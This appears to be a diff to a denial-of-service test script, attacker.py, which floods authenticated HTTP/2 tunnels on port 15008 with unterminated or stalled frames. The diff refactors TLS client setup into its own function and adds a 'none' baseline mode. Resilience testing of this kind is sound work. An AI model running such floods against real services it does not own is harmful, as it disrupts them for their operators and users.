@@ -9,7 +9,8 @@ attacker.py streams ADDRESS TUNNELS STREAMS SECONDS IDENTITY AUTHORITY
                                                   authenticated tunnels full of stalled streams
 attacker.py flood KIND ADDRESS SECONDS IDENTITY AUTHORITY
                                                   KIND ping, window, settings, refused or bytes:
-                                                  frames without an end in tunnels of one caller
+                                                  frames without an end in tunnels of one caller;
+                                                  none: what that costs the machine, and no frame
 
 IDENTITY is a directory with tls.crt and tls.key. Every loop ends after SECONDS.
 """
@@ -33,12 +34,17 @@ def connect_request(stream, authority):
     return frame(1, 4, stream, fields)
 
 
-def tunnel(address, identity):
-    """A tunnel of the caller whose SVID lies in `identity`."""
+def client(identity):
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.load_cert_chain(f"{identity}/tls.crt", f"{identity}/tls.key")
     context.set_alpn_protocols(["h2"])
+    return context
+
+
+def tunnel(address, identity):
+    """A tunnel of the caller whose SVID lies in `identity`."""
+    context = client(identity)
     raw = socket.create_connection((address, 15008), timeout=5)
     made = context.wrap_socket(raw)
     made.sendall(PREFACE + frame(4, 0, 0))
@@ -164,6 +170,9 @@ def flood(kind, address, seconds, identity, authority):
     made = sent = ended = 0
     while time.monotonic() < until:
         try:
+            if kind == "none":  # as long as it is refused it does no more than that
+                client(identity)
+                raise OSError("nobody is called")
             one = tunnel(address, identity)
         except OSError:
             time.sleep(0.05)
